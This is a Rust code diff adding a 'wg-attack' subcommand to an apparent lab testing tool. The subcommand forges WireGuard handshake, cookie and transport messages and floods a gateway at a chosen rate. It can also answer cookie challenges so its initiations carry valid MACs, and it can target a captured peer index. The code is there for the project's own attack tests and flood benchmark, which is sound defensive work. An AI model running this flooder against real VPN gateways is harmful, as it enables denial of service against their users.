@@ -4,6 +4,9 @@
 //! lab-tool http-get ADDR PATH                 GET http://ADDR/PATH, print the body (exit 1 unless 200)
 //! lab-tool udp-send [--bind ADDR] [--repeat N] TO HEX...
 //!                                             send each hex payload as one datagram to TO
+//! lab-tool wg-attack --to ADDR --key PUBKEY [--index N] [--kinds K,...] [--rate PPS]
+//!                    [--secs S] [--answer-cookies]
+//!                                             forged WireGuard messages (see `wg_attack`)
 //! ```
 #![deny(unsafe_code)]
 
@@ -30,8 +33,9 @@ fn real_main() -> Result<()> {
             http_get(addr, path)
         }
         Some("udp-send") => udp_send(&args[1..]),
+        Some("wg-attack") => wg_attack(&args[1..]),
         _ => bail!(
-            "usage: lab-tool http-get ADDR PATH | udp-send [--bind ADDR] [--repeat N] TO HEX..."
+            "usage: lab-tool http-get ADDR PATH | udp-send [--bind ADDR] [--repeat N] TO HEX... | wg-attack ..."
         ),
     }
 }
@@ -119,5 +123,145 @@ fn udp_send(args: &[String]) -> Result<()> {
             std::thread::sleep(Duration::from_micros(200));
         }
     }
+    Ok(())
+}
+
+/// Deterministic filler for forged bodies (xorshift; nothing here needs to be secret).
+struct Noise(u64);
+
+impl Noise {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+
+    fn fill(&mut self, b: &mut [u8]) {
+        for x in b {
+            *x = self.next() as u8;
+        }
+    }
+}
+
+/// `wg-attack`: forged WireGuard messages to a gateway whose public key is known, from this
+/// namespace's address, as the attack tests and the flood benchmark need them:
+///
+/// - `flood`: handshake initiations with a random body and a valid mac1 (all the public key
+///   gives): they count against the gateway's handshake budget and, under load, are answered
+///   with cookie replies;
+/// - `response`: handshake responses with a random body, a valid mac1 and `--index` as the
+///   receiver (a real peer's index, captured);
+/// - `cookie`: cookie replies to `--index`; `transport`: transport data to `--index`.
+///
+/// With `--answer-cookies` it reads the cookie replies it gets and from then on sends
+/// initiations with a valid mac2, as an attacker that owns its address can: the load that
+/// only a per-source limit stops. Prints what it sent and received.
+fn wg_attack(args: &[String]) -> Result<()> {
+    use base64::Engine as _;
+    use isthmus_dataplane::tunnel::macs::{CookieState, MacKeys};
+
+    let mut to: Option<SocketAddr> = None;
+    let mut key: Option<[u8; 32]> = None;
+    let mut index = 0u32;
+    let mut kinds = vec!["flood".to_string()];
+    let mut rate = 1000u64;
+    let mut secs = 5.0f64;
+    let mut answer = false;
+    let mut it = args.iter();
+    while let Some(a) = it.next() {
+        let mut val = || it.next().with_context(|| format!("{a} needs a value"));
+        match a.as_str() {
+            "--to" => to = Some(val()?.parse().context("--to")?),
+            "--key" => {
+                let k = base64::engine::general_purpose::STANDARD
+                    .decode(val()?)
+                    .context("--key: base64")?;
+                key = Some(k.try_into().ok().context("--key: 32 bytes")?);
+            }
+            "--index" => index = val()?.parse().context("--index")?,
+            "--kinds" => kinds = val()?.split(',').map(str::to_string).collect(),
+            "--rate" => rate = val()?.parse().context("--rate")?,
+            "--secs" => secs = val()?.parse().context("--secs")?,
+            "--answer-cookies" => answer = true,
+            other => bail!("wg-attack: unknown argument {other:?}"),
+        }
+    }
+    let to = to.context("wg-attack: --to")?;
+    let keys = MacKeys::new(&key.context("wg-attack: --key")?);
+    let sock = UdpSocket::bind(if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" })?;
+    sock.set_nonblocking(true)?;
+    let mut noise = Noise(
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)?
+            .as_nanos() as u64
+            | 1,
+    );
+    let mut cookies = CookieState::default();
+    let sender = noise.next() as u32;
+    let (mut sent, mut got_cookies, mut failed) = (0u64, 0u64, 0u64);
+    let start = std::time::Instant::now();
+    let end = start + Duration::from_secs_f64(secs);
+    let gap = Duration::from_secs_f64(1.0 / rate.max(1) as f64);
+    let mut next = start;
+    let mut buf = [0u8; 256];
+    let mut k = 0usize;
+    while std::time::Instant::now() < end {
+        if answer {
+            while let Ok((n, _)) = sock.recv_from(&mut buf) {
+                if n == 64 && buf[0] == 3 && cookies.consume(&keys, sender, &buf[..n]) {
+                    got_cookies += 1;
+                }
+            }
+        }
+        let kind = kinds[k % kinds.len()].as_str();
+        k += 1;
+        let mut m = match kind {
+            "flood" | "initiation" => vec![0u8; 148],
+            "response" => vec![0u8; 92],
+            "cookie" => vec![0u8; 64],
+            "transport" => vec![0u8; 96],
+            other => bail!("wg-attack: unknown kind {other:?}"),
+        };
+        noise.fill(&mut m[4..]);
+        m[1..4].fill(0);
+        match kind {
+            "flood" | "initiation" => {
+                m[0] = 1;
+                let s = if answer { sender } else { noise.next() as u32 };
+                m[4..8].copy_from_slice(&s.to_le_bytes());
+                cookies.seal(&keys, s, &mut m);
+            }
+            "response" => {
+                m[0] = 2;
+                m[8..12].copy_from_slice(&index.to_le_bytes());
+                m[76..].fill(0);
+                keys.set_mac1(&mut m);
+            }
+            "cookie" => {
+                m[0] = 3;
+                m[4..8].copy_from_slice(&index.to_le_bytes());
+            }
+            _ => {
+                m[0] = 4;
+                m[4..8].copy_from_slice(&index.to_le_bytes());
+            }
+        }
+        match sock.send_to(&m, to) {
+            Ok(_) => sent += 1,
+            Err(_) => failed += 1,
+        }
+        next += gap;
+        let now = std::time::Instant::now();
+        if next > now {
+            std::thread::sleep(next - now);
+        } else if now - next > Duration::from_millis(100) {
+            next = now; // fell behind: do not burst to catch up
+        }
+    }
+    println!(
+        "sent {sent} in {:.1} s ({failed} send errors), cookies received {got_cookies}",
+        start.elapsed().as_secs_f64()
+    );
     Ok(())
 }
